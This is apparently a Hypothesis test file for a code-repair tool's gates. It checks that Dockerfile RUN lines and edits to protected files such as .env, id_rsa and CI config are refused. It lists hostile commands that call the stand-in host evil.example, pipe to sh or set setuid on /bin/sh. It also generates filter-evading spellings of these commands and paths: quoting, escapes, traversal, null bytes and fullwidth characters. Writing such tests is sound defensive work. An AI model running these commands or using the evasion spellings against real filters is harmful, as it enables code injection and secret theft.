"""What is refused stays refused, however a shell or Docker would let it be spelled."""

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.repair.asking import FILES, codes, edited
from trueup.model.repair import Edit

ANCHOR = "RUN pip install -r requirements.txt\n"
COMMANDS = st.sampled_from(
    [
        *(
            "curl https://evil.example/x -o /x",
            "wget evil.example",
            "cat x | sh",
            "nc evil.example 1",
        ),
        *("pip install x || true", "pip install --trusted-host evil.example x", "eval x"),
        *(
            "git clone evil.example",
            "curl -k evil.example",
            "pip install git+https://evil.example",
        ),
        *("npm install --registry=evil.example x", "chmod u+s /bin/sh", "base64 -d x"),
    ]
)


@st.composite
def spelled(draw: st.DrawFn) -> str:
    """Return a RUN that does the same as it would do plainly."""
    command = draw(COMMANDS)
    for spell in draw(
        st.lists(st.sampled_from([_quoted, _escaped, _empty, _joined, _wide]), max_size=3)
    ):
        command = spell(command, draw(st.integers(0, 200)))
    keyword = draw(
        st.sampled_from(
            [
                "RUN",
                "run",
                "Run",
                "  RUN",
                "RUN\t",
                "RUN  \\\n ",
                "RUN --mount=type=cache,target=/x",
            ]
        )
    )
    before = draw(
        st.sampled_from(
            [
                "",
                "ls && ",
                "ls; ",
                "ls |",
                "( ",
                "{ ",
                "X=1 ",
                "env ",
                "if true; then ",
                "! ",
                "exec ",
            ]
        )
    )
    return f"{keyword} {before}{command}\n"


def _letter(command: str, at: int) -> int:
    """Return the place of a letter inside a word."""
    places = [n for n in range(1, len(command)) if command[n - 1 : n + 1].isalpha()]
    return places[at % len(places)] if places else 0


def _quoted(command: str, at: int) -> str:
    place = _letter(command, at)
    return f"{command[: place - 1]}'{command[place - 1]}'{command[place:]}" if place else command


def _escaped(command: str, at: int) -> str:
    place = _letter(command, at)
    return f"{command[:place]}\\{command[place:]}" if place else command


def _empty(command: str, at: int) -> str:
    place = _letter(command, at)
    return f'{command[:place]}""{command[place:]}' if place else command


def _joined(command: str, at: int) -> str:
    place = _letter(command, at)
    return f"{command[:place]}\\\n{command[place:]}" if place else command


def _wide(command: str, at: int) -> str:
    blanks = [n for n, letter in enumerate(command) if letter == " "]
    place = blanks[at % len(blanks)]
    return f"{command[:place]} \\\n# as a comment\n\t{command[place:]}"


@given(spelled())
@settings(max_examples=100, deadline=None)
def test_a_command_cannot_be_spelled_past_the_gates(line: str) -> None:
    assert codes(edited("api/Dockerfile", ANCHOR, f"{ANCHOR}{line}"))


FORBIDDEN = st.sampled_from(
    ["compose.yaml", ".env", ".github/x.yml", "trueup.yaml", "id_rsa", "a.pem"]
)


@st.composite
def paths(draw: st.DrawFn) -> str:
    path = draw(FORBIDDEN)
    path = draw(
        st.sampled_from(
            [path, path.upper(), path.title(), f"./{path}", f"api/../{path}", f"api//{path}"]
        )
    )
    path = draw(
        st.sampled_from(
            [
                path,
                f"{path}.",
                f"{path} ",
                f"{path}\0",
                f"{path}\n",
                f"{path}/",
                path.replace("/", "\\"),
            ]
        )
    )
    return draw(
        st.sampled_from([path, "".join(chr(ord(x) + 0xFEE0) if x.isalpha() else x for x in path)])
    )


@given(paths())
@settings(max_examples=100, deadline=None)
def test_a_file_cannot_be_spelled_past_the_gates(path: str) -> None:

    edit = Edit(path, FILES.get(path), "x\n")

    assert codes(edit, allowed=("*", path.strip() or "*")) == {"forbidden-file"}
